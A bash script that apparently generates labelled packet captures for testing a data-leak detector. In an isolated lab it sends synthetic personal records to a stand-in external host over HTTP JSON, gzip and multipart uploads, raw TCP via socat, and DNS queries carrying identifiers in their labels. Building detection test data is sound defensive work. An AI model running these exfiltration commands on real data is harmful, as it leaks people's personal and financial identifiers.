#!/bin/bash
# record_leak_variants.sh OUTDIR — more exfiltration captures for the leak detector, recorded in the shared lab
# (../shared/lab: `netlab.sh up` first) the same way its record.sh records exfil_http / exfil_tcp / exfil_https:
# the attacker 10.10.1.66 sends the synthetic records (synth_pii.py, 5,000 records) to the "internet" host
# 198.18.0.10 over benign background traffic. Each capture gets OUTDIR/NAME.pcap, NAME.labels.json and
# NAME.truth.json (what leaves, by identifier type, from the generator's ground truth).
#   exfil_json       HTTP POST of the JSON export (application/json)
#   exfil_gzip       HTTP POST of the CSV, gzip-encoded (Content-Encoding: gzip)
#   exfil_multipart  HTTP multipart/form-data upload of the CSV file
#   exfil_ebds       raw TCP upload of the e-BDS salary-declaration file (fixed-width records)
#   exfil_dns        1,000 DNS queries carrying a CNSS number and a CIN in their labels
set -u
out=$1; mkdir -p "$out"; out=$(cd "$out" && pwd)
. "$(dirname "$0")/lab_common.sh"
[ -f "$LAB/pii.csv" ] || python3 "$lab/synth_pii.py" 5000 "$LAB/pii"
record() { # NAME TRUTHJSON COMMAND...
    local name=$1 truth=$2; shift 2
    lab_record "$name" $EXT "" 20 "$@"
    echo "$truth" > "$out/$name.truth.json"
}
n=$(python3 -c "import json; print(json.load(open('$LAB/pii.truth.json'))['records'])")
csv_truth="{\"cin\": $n, \"cnss\": $n, \"rib\": $n, \"iban\": $n, \"phone\": $n, \"email\": $n}"
gzip -c "$LAB/pii.csv" > "$LAB/pii.csv.gz"
record exfil_json "{\"cin\": $n, \"cnss\": $n, \"rib\": $n, \"iban\": $n, \"phone\": $n, \"email\": $n, \"cnss_affiliation\": 1}" \
    in_cli curl -s -o /dev/null --interface $ATK -H 'Content-Type: application/json' --data-binary @"$LAB/pii.json" "http://$EXT/api/v1/employees"
record exfil_gzip "$csv_truth" \
    in_cli curl -s -o /dev/null --interface $ATK -H 'Content-Type: text/csv' -H 'Content-Encoding: gzip' --data-binary @"$LAB/pii.csv.gz" "http://$EXT/upload"
record exfil_multipart "$csv_truth" \
    in_cli curl -s -o /dev/null --interface $ATK -F "file=@$LAB/pii.csv;type=text/csv" "http://$EXT/upload"
ebds() {
    ip netns exec lx-inet timeout 20 socat -u TCP-LISTEN:9001,reuseaddr OPEN:/dev/null,creat & local lp=$!
    sleep 1; in_cli timeout 15 socat -u FILE:"$LAB/pii.ebds" TCP:$EXT:9001,bind=$ATK; wait $lp
}
record exfil_ebds "{\"cnss\": $n, \"cnss_affiliation\": 1, \"ebds_record\": $n}" ebds
dnsq() {
    python3 - "$LAB/pii.csv" 1000 > "$LAB/dnsq.txt" <<'PY'
import sys
rows = open(sys.argv[1]).read().split("\n")[1:1 + int(sys.argv[2])]
for r in rows:
    f = r.split(";")
    print("cnss-%s.cin-%s.sync.example.com" % (f[3], f[2].lower()))
PY
    while read -r q; do in_cli dig +tries=1 +time=1 -b $ATK @$EXT A "$q" >/dev/null; done < "$LAB/dnsq.txt"
}
record exfil_dns '{"cnss": 1000, "cin": 1000}' dnsq
